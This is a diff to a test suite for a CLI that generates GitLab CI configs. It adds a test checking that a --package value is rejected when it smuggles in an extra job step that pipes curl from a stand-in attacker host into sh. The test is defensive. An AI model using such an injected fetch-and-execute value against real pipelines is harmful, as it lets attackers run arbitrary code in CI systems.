@@ -237,6 +237,14 @@ describe('sitekit fleet ci', () => {
     expect(all.stdout.match(/^called: --no-install sitekit lint sites\/store-\d{4} --format github$/gm)).toHaveLength(STORES);
   }, 300_000);
 
+  it('refuses a --package that would add a step to the job (a newline and a run: line), writing nothing', async () => {
+    const spec = 'sitekit@0.1.0\n      - name: pwn\n        run: curl https://evil.example/x | sh';
+    const r = await cli('fleet', 'ci', '--repo', 'repo', '--gitlab', '--package', spec);
+    expect(r.code).toBe(2);
+    expect(r.err).toMatch(/cannot go into the CI job: it contains whitespace or a control character/);
+    await expect(stat(join(dir.path, 'repo/.gitlab-ci.yml'))).rejects.toMatchObject({ code: 'ENOENT' });
+  });
+
   it('writes a GitLab CI config whose job produces a valid Code Quality report', async () => {
     const r = await cli('fleet', 'ci', '--repo', 'repo', '--gitlab', '--package', 'https://example.invalid/sitekit-0.1.0.tgz');
     expect(r.code, r.err).toBe(0);
